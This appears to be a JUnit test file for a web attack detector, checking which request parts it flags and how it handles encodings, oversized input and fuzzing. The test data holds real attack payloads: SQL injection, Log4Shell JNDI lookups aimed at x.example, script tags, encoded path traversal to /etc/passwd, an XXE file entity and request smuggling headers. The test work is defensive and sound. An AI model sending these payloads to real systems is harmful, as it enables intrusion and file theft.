// SPDX-License-Identifier: Apache-2.0
package dev.sallyport.detection.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.model.AttackFamily;
import dev.sallyport.model.Content;
import dev.sallyport.model.Finding.AttackAttempt;
import dev.sallyport.model.Message;
import dev.sallyport.model.Place;
import java.lang.management.ManagementFactory;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class AttackInspectorTest {
  @Test
  void placesNameTheArgument() {
    assertThat(places(Requests.get("/find?sort=1%27%20or%20%271%27=%271")))
        .contains(new Place(Place.Part.QUERY, "sort"));
    assertThat(places(Requests.json("{\"a\":{\"b\":[\"${jndi:ldap://x.example/a}\"]}}")))
        .contains(new Place(Place.Part.JSON, "$.a.b[*]"));
    assertThat(places(Requests.form("x=1&name=%3Cscript%3Ego()%3C%2Fscript%3E")))
        .contains(new Place(Place.Part.FORM, "name"));
    assertThat(places(Requests.get("/", "Cookie", "a=b; theme=../../../../etc/passwd")))
        .contains(new Place(Place.Part.COOKIE, "theme"));
    assertThat(places(Requests.get("/", "User-Agent", "${jndi:dns://x.example}")))
        .contains(new Place(Place.Part.HEADER, "user-agent"));
    assertThat(places(Requests.get("/static/..%2f..%2fsecret")))
        .contains(Place.of(Place.Part.PATH));
  }

  @Test
  void evidenceAndPlacesHoldNoValue() {
    String name = "zq' or 'zq'='zq";
    Message message = Requests.get("/?" + name.replace(" ", "%20") + "=1");
    assertThat(Requests.found(message))
        .isNotEmpty()
        .allSatisfy(
            found -> {
              assertThat(found.evidence()).doesNotContain("zq").hasSizeLessThanOrEqualTo(120);
              assertThat(found.place().name()).doesNotContain("zq");
            });
  }

  @Test
  void codingsAreTakenOff() {
    for (String value :
        List.of(
            "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "%26lt%3Bscript%26gt%3Bgo()%26lt%3B/script%26gt%3B",
            "%EF%BC%9Cscript%EF%BC%9Ego()",
            "%5Cu003cscript%5Cu003ego()",
            "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D")) {
      assertThat(Requests.families(Requests.get("/?q=" + value))).as(value).isNotEmpty();
    }
  }

  @Test
  void textForModelsIsProse() {
    String talk =
        "Explain why ' or 1=1 -- works, what <script>alert(1)</script> does, and show cat /etc/passwd";
    assertThat(Requests.found(Requests.chat(talk))).isEmpty();
    assertThat(Requests.found(Requests.chat("```sql\nselect * from users where id = 1;\n```")))
        .isEmpty();
    assertThat(Requests.found(Requests.chat("rm -rf / is what?\nuse `sudo ls` instead"))).isEmpty();
  }

  @Test
  void anAttackBesideTextForModelsCounts() {
    String body =
        "{\"model\":\"m\",\"user\":\"1' union select a,b from users --\","
            + "\"messages\":[{\"role\":\"user\",\"content\":\"hello\"}]}";
    assertThat(Requests.families(Requests.json(body))).contains(AttackFamily.SQL_INJECTION);
    Message chat = Requests.chat("hello");
    List<Message.Field> fields = new ArrayList<>(chat.fields());
    fields.add(new Message.Field("X-Api-Version", "${jndi:ldap://x.example/a}"));
    Message both = new Message(chat.direction(), "POST", chat.target(), 0, fields, chat.contents());
    assertThat(Requests.families(both)).contains(AttackFamily.EXPRESSION_INJECTION);
  }

  @Test
  void credentialsAreNoAttacks() {
    String token =
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P";
    assertThat(
            Requests.found(
                Requests.get(
                    "/orders", "Authorization", "Bearer " + token, "Cookie", "s=" + token)))
        .isEmpty();
    assertThat(Requests.found(Requests.get("/", "Authorization", "Basic dXNlcjpwYXNz"))).isEmpty();
  }

  @Test
  void ordinaryHeadersAreSilent() {
    assertThat(
            Requests.found(
                Requests.get(
                    "/orders?page=2&sort=-created_at&fields=id,name",
                    "User-Agent",
                    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                    "Accept",
                    "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
                    "sec-ch-ua",
                    "\"Chromium\";v=\"120\", \"Not?A_Brand\";v=\"8\"",
                    "If-None-Match",
                    "W/\"abc-1\"",
                    "traceparent",
                    "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                    "Referer",
                    "https://shop.example/list?page=1&q=tea+%26+milk",
                    "X-Forwarded-For",
                    "203.0.113.7, 10.0.0.1",
                    "Cookie",
                    "session=abc123; theme=dark; _ga=GA1.2.3.4")))
        .isEmpty();
  }

  @Test
  void scriptsOfAPageAreNotReadForLeaksAndItsTextIs() {
    String error = "org.eclipse.elk.core.UnsupportedException: an exception caused by nothing";
    assertThat(Requests.families(Requests.answer(error, "text/plain")))
        .contains(AttackFamily.RESPONSE_LEAK);
    assertThat(Requests.found(Requests.answer(error, "Text/JavaScript; charset=utf-8"))).isEmpty();
    assertThat(Requests.found(Requests.answer(error, "application/javascript"))).isEmpty();
  }

  @Test
  void answersAreReadForLeaks() {
    assertThat(Requests.families(Requests.answer("<b>Fatal error</b>: Uncaught Error in /a.php")))
        .contains(AttackFamily.RESPONSE_LEAK);
    assertThat(Requests.families(Requests.answer("Traceback (most recent call last):\n File")))
        .contains(AttackFamily.RESPONSE_LEAK);
    assertThat(Requests.families(Requests.answer("<title>Index of /backup</title>")))
        .contains(AttackFamily.RESPONSE_LEAK);
    assertThat(Requests.found(Requests.answer("<h1>Orders</h1><p>All is well, nothing failed.")))
        .isEmpty();
  }

  @Test
  void requestsThatContradictThemselvesAreAbuse() {
    assertThat(
            Requests.families(
                Requests.get("/", "Content-Length", "3", "Transfer-Encoding", "chunked")))
        .contains(AttackFamily.REQUEST_SMUGGLING);
    assertThat(Requests.families(Requests.get("/a%00.png"))).contains(AttackFamily.PROTOCOL_ABUSE);
    assertThat(Requests.families(Requests.get("/", "User-Agent", "sqlmap/1.7")))
        .contains(AttackFamily.SCANNER);
    assertThat(Requests.families(Requests.get("/in?phpsessid=abc", "Referer", "http://x.example/")))
        .contains(AttackFamily.SESSION_FIXATION);
    assertThat(
            Requests.families(
                Requests.body(
                    Content.Form.XML,
                    Place.Part.TEXT,
                    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/x\">]><a>&b;</a>")))
        .contains(AttackFamily.XML_EXTERNAL_ENTITY);
  }

  @Test
  void hostileLengthTakesLittleTimeAndIsCounted() {
    AttackInspector inspector = new Attacks(AttackLimits.DEFAULT).inspector();
    for (String unit :
        List.of(
            "'", "(", "%25", "<a ", "${", "{{", "$a(", "\\", "; ls ", "&", "a=", "../", "or 1=1 ",
            "1.e(", "`")) {
      String value = unit.repeat((1 << 20) / unit.length());
      long start = cpuNanos();
      inspector.inspect(Requests.get("/?q=" + value, "X-A", value), found -> {});
      inspector.inspect(
          Requests.json("{\"a\":\"" + value.replace("\\", "\\\\") + "\"}"), found -> {});
      inspector.inspect(Requests.form("a=" + value), found -> {});
      assertThat((cpuNanos() - start) / 1_000_000).as(unit).isLessThan(8_000);
    }
    assertThat(inspector.limitsHit()).isPositive();
  }

  @Test
  void anythingCanBeRead() {
    Random random = new Random(20261121);
    String alphabet = "aA1'\"`()<>;|&${}[]\\%*#!~?=@/ ^.,:-_+\r\n\0\u00e9\u00ff";
    List<String> words =
        List.of(
            "select",
            "union",
            "or",
            "cat",
            "<script",
            "javascript:",
            "${jndi:",
            "../",
            "%2e",
            "&#x",
            "\\u00",
            "http://",
            "O:1:\"",
            "{{",
            "<?php",
            "alert(",
            "java.lang.",
            "\r\nSet-Cookie:");
    AttackInspector inspector = new Attacks(AttackLimits.DEFAULT).inspector();
    for (int round = 0; round < 5_000; round++) {
      StringBuilder text = new StringBuilder();
      for (int i = random.nextInt(24); i >= 0; i--) {
        text.append(
            random.nextInt(3) == 0
                ? words.get(random.nextInt(words.size()))
                : String.valueOf(alphabet.charAt(random.nextInt(alphabet.length()))));
      }
      String value = text.toString();
      List<AttackAttempt> found = new ArrayList<>();
      inspector.inspect(
          Requests.get(
              "/a/" + value + "?" + value,
              "Cookie",
              value,
              "Referer",
              value,
              "X-A",
              value,
              "User-Agent",
              value,
              "Content-Type",
              value,
              "Range",
              value),
          found::add);
      inspector.inspect(Requests.form(value), found::add);
      inspector.inspect(Requests.json("{\"" + value + "\":\"" + value + "\"}"), found::add);
      inspector.inspect(Requests.body(Content.Form.XML, Place.Part.TEXT, value), found::add);
      inspector.inspect(
          Requests.body(Content.Form.PLAIN, Place.Part.MULTIPART, "--b\n" + value), found::add);
      inspector.inspect(Requests.answer(value), found::add);
    }
  }

  /** Returns the time this thread has run, which other programs on the machine do not lengthen. */
  private static long cpuNanos() {
    return ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
  }

  private static List<Place> places(Message message) {
    return Requests.found(message).stream().map(AttackAttempt::place).toList();
  }
}
